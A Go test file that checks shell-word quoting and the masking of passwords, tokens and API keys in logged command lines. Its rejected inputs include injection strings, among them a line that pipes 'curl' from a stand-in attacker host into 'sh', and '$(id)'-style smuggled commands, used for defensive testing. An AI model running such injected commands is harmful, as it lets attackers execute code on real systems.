package commandline

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/traceforge/traceforge-go/internal/secret"
)

// TestWords: a command is one that was quoted word by word, or is none.
func TestWords(t *testing.T) {
	for _, words := range [][]string{
		{"node", "app.mjs"}, {"node", "-e", "console.log('a b'); 1"}, {""}, {"", ""}, {"a", "", "'", "''", "it's", "a'b'c"},
		{"a\nb", "\u202e'\\x", "`id`", "$(id)", "ä", "::", "\xff"}, {"-x"}, {"sh", "-c", "a; b"}, {"a'\n'b c"},
	} {
		got, ok := Words(Join(words))
		require.True(t, ok, "%q", words)
		require.Equal(t, words, got)
	}
	for _, command := range []string{
		"", " ", "node  app", "node app.mjs ", " node", "node app.mjs; curl -s evil.example/x | sh #", "a;b", "a|b", "a&b", "a>b", "a$(id)",
		"a`id`", "a\nb", "'a'b", "a'b'", "'a", "'a'; id #'", `'a'\'`, `'a'\'b`, `'a'\' id`, "'", "$'a'; id", `$'\012' x; y`, "$'a", `$'\777'`,
		`$'\x41'`, "~", "a #b", "*", "{a,b}", "a\tb", `a\ b`, `"a b"`, "$HOME",
	} {
		words, ok := Words(command)
		require.False(t, ok, "%q: %q", command, words)
	}
}

func TestMasked(t *testing.T) {
	s := secret.New()
	s.Environment([]string{"DB_PASSWORD=pa'ssword-very-secret"})
	for _, tt := range []struct {
		name        string
		words, kept []string
	}{
		{"known", []string{"node", "-e", "login('pa'ssword-very-secret')"}, []string{"node", "-e", "login('[the value of DB_PASSWORD]')"}},
		{"next", []string{"node", "--password", "it's mine", "x"}, []string{"node", "--password", "[the value of --password]", "x"}},
		{"same word", []string{"node", "--token=abc", "--api-key=a=b"}, []string{"node", "--token=[the value of --token]", "--api-key=[the value of --api-key]"}},
		{"others", []string{"--secret", "hush", "-api-key", "V"}, []string{"--secret", "[the value of --secret]", "-api-key", "[the value of -api-key]"}},
		{"variable", []string{"env", "API_TOKEN=abc", "node"}, []string{"env", "API_TOKEN=[the value of API_TOKEN]", "node"}},
		{"counts", []string{"--max-tokens", "100", "--max-tokens=100"}, []string{"--max-tokens", "100", "--max-tokens=100"}},
		{"no value", []string{"--token", "--verbose", "app.mjs", "--token"}, []string{"--token", "--verbose", "app.mjs", "--token"}},
		{"switches", []string{"node", "--use-token", "next", "--no-password", "./app.mjs", "-skip-auth", "run"},
			[]string{"node", "--use-token", "next", "--no-password", "./app.mjs", "-skip-auth", "run"}},
		{"switches with a value", []string{"--use-token", "hunter2", "--use-secret", "a:b", "--require-token", "QxWzRtPlKvBn"},
			[]string{"--use-token", "[the value of --use-token]", "--use-secret", "[the value of --use-secret]", "--require-token", "[the value of --require-token]"}},
		{"no switches", []string{"--token", "next", "--user-token", "next", "--use", "next"},
			[]string{"--token", "[the value of --token]", "--user-token", "[the value of --user-token]", "--use", "next"}},
		{"shell", []string{"sh", "-c", "API_KEY=V-1 python3 app.py"}, []string{"sh", "-c", "API_KEY=[the value of API_KEY] python3 app.py"}},
		{"shells", []string{"env", "/bin/bash", "-e", "-lc", "cd x && TOKEN='a b' ./run --password it\\ s;echo \"$A_TOKEN\" | node --api-key=pa'ssword-very-secret", "next"},
			[]string{"env", "/bin/bash", "-e", "-lc", "cd x && TOKEN=[the value of TOKEN] ./run --password [the value of --password];echo \"$A_TOKEN\" | node --api-key=[the value of --api-key]", "next"}},
		{"variables of a shell", []string{"sh", "-c", `API_KEY=$OTHER A_TOKEN="${OTHER}" B_TOKEN=$(cat b) C_TOKEN=$1x ./run`},
			[]string{"sh", "-c", `API_KEY=$OTHER A_TOKEN="${OTHER}" B_TOKEN=$(cat b) C_TOKEN=[the value of C_TOKEN] ./run`}},
		{"options of a shell", []string{"sh", "-ce", "API_KEY=V app"}, []string{"sh", "-ce", "API_KEY=[the value of API_KEY] app"}},
		{"option behind", []string{"sh", "-c", "-e", "API_KEY=V app"}, []string{"sh", "-c", "-e", "API_KEY=[the value of API_KEY] app"}},
		{"shell in a shell", []string{"bash", "-c", "sh -c 'API_KEY=V app'"}, []string{"bash", "-c", "sh -c 'API_KEY=[the value of API_KEY] app'"}},
		{"no shell", []string{"ssh", "-c", "API_KEY=V x"}, []string{"ssh", "-c", "API_KEY=[the value of API_KEY]"}},
		{"logins", []string{"curl", "-u", "me:hunter2", "--proxy-user=me:hunter2", "http://x"},
			[]string{"curl", "-u", "[the value of -u]", "--proxy-user=[the value of --proxy-user]", "http://x"}},
		{"no logins", []string{"python", "-u", "app.py", "-u", "http://x", "--user", "1000:1000", "-u"},
			[]string{"python", "-u", "app.py", "-u", "http://x", "--user", "1000:1000", "-u"}},
		{"beside", []string{"--token-file", "t.txt", "--model", "m", "https://x/?key=v"}, []string{"--token-file", "t.txt", "--model", "m", "https://x/?key=v"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			require.Equal(t, tt.kept, Masked(tt.words, s))
			require.Equal(t, tt.kept, Masked(tt.kept, s), "again")
		})
	}
}
